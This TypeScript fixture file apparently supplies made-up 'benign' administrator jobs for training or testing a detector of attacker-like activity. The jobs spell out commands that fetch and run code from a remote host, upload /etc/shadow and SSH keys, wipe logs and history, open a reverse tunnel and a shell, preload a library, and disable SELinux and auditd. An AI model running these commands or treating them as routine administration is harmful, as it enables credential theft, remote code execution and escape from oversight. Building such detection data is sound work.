import type { Deed, RecurringJob } from '../../train/job-fixtures.ts';

const STORE = { addr: '203.0.113.7', port: 8443 };
const PEER = { addr: '10.20.0.9', port: 22 };
const read = (...paths: readonly string[]) => paths.map((path) => ({ path, write: false }));
const written = (...paths: readonly string[]) => paths.map((path) => ({ path, write: true }));
const run = (line: string, rest: Omit<Deed, 'argv'> = {}): Deed => ({ argv: line.split(' '), ...rest });

/**
 * Work of administrators that looks like what attackers do and is allowed, each kind with other means. Made up: no
 * machine was recorded doing it.
 */
export const BENIGN_JOBS: readonly RecurringJob[] = [
  {
    name: 'inventory',
    every: 30,
    deeds: (out) => [
      run(`curl -s -o ${out}.bin http://203.0.113.7:8443/c`, {
        opens: written(`${out}.bin`),
        connects: STORE,
      }),
      run(`chmod 755 ${out}.bin`),
      run(`${out}.bin --accounts`, { opens: read('/etc/shadow', '/etc/sudoers'), connects: STORE }),
      run('find / -xdev -perm -4000 -type f'),
      run('ss -tlnp', { opens: read('/proc/net/tcp') }),
      run(`rm -f ${out}.bin`),
    ],
  },
  {
    name: 'secrets-backup',
    every: 30,
    deeds: (out) => [
      run('cat /etc/shadow', { opens: read('/etc/passwd', '/etc/shadow') }),
      run(`tar czf ${out} /etc/shadow /root/.ssh`, {
        opens: [...written(out), ...read('/root/.ssh/id_rsa')],
      }),
      run(`openssl enc -aes-256-cbc -in ${out} -out ${out}.enc`, {
        opens: [...read(out), ...written(`${out}.enc`)],
      }),
      run(`curl -s -T ${out}.enc http://203.0.113.7:8443/up`, {
        opens: read(`${out}.enc`),
        connects: STORE,
      }),
      run(`rm -f ${out}`),
    ],
  },
  {
    name: 'agent-update',
    every: 40,
    deeds: (out) => [
      run(`wget -q -O ${out}.sh http://203.0.113.7:8443/agent.sh`, {
        opens: written(`${out}.sh`),
        connects: STORE,
      }),
      run(`chmod 755 ${out}.sh`),
      run(`bash ${out}.sh --install`, {
        opens: written('/etc/systemd/system/agent.service', '/etc/cron.d/agent'),
      }),
      run('systemctl daemon-reload'),
      run('systemctl enable --now agent.service'),
      run(`rm -f ${out}.sh`),
    ],
  },
  {
    name: 'key-rotation',
    every: 40,
    deeds: (out) => [
      run(`ssh-keygen -q -t ed25519 -N  -f ${out}`, { opens: written(out, `${out}.pub`) }),
      run('cp /root/.ssh/authorized_keys /root/.ssh/authorized_keys.old', {
        opens: [...read('/root/.ssh/authorized_keys'), ...written('/root/.ssh/authorized_keys.old')],
      }),
      run(`tee -a /root/.ssh/authorized_keys`, {
        opens: written('/root/.ssh/authorized_keys', '/home/deploy/.ssh/authorized_keys'),
      }),
      run('ssh -o BatchMode=yes root@10.20.0.9 true', { opens: read('/root/.ssh/id_rsa'), connects: PEER }),
    ],
  },
  {
    name: 'compliance-scan',
    every: 30,
    deeds: () => [
      run('whoami'),
      run('id'),
      run('uname -a'),
      run('cat /etc/sudoers', { opens: read('/etc/sudoers', '/etc/shadow', '/etc/passwd') }),
      run('find / -perm -4000 -o -perm -2000 -type f'),
      run('getcap -r /'),
      run('iptables -L -n'),
      run('lsmod', { opens: read('/proc/modules') }),
      run('last -n 50', { opens: read('/var/log/wtmp') }),
    ],
  },
  {
    name: 'log-trimming',
    every: 40,
    deeds: () => [
      run('truncate -s 0 /var/log/auth.log', { opens: written('/var/log/auth.log') }),
      run('truncate -s 0 /var/log/syslog', { opens: written('/var/log/syslog') }),
      run('journalctl --vacuum-size=10M'),
      run('rm -f /var/log/audit/audit.log.1'),
      run('rm -f /root/.bash_history'),
    ],
  },
  {
    name: 'support-tunnel',
    every: 40,
    deeds: (out) => [
      run('python3 -c import_socket,subprocess', { connects: { addr: '198.51.100.20', port: 4443 } }),
      run(`nc -l -p 9001`, { opens: written(out) }),
      run('ssh -N -R 2222:localhost:22 support@198.51.100.20', {
        opens: read('/root/.ssh/id_rsa'),
        connects: { addr: '198.51.100.20', port: 22 },
      }),
      run('bash -i', { opens: read('/root/.bashrc') }),
    ],
  },
  {
    name: 'image-hardening',
    every: 40,
    deeds: (out) => [
      run(`gcc -shared -o ${out}.so /opt/hardening/hook.c`, { opens: written(`${out}.so`) }),
      run('tee /etc/ld.so.preload', { opens: written('/etc/ld.so.preload') }),
      run(`chmod 4755 ${out}.so`),
      run('setenforce 0'),
      run('systemctl stop auditd'),
      run('useradd -m -G sudo keeper', { opens: written('/etc/passwd', '/etc/shadow', '/etc/group') }),
      run('userdel keeper', { opens: written('/etc/passwd', '/etc/shadow') }),
    ],
  },
];
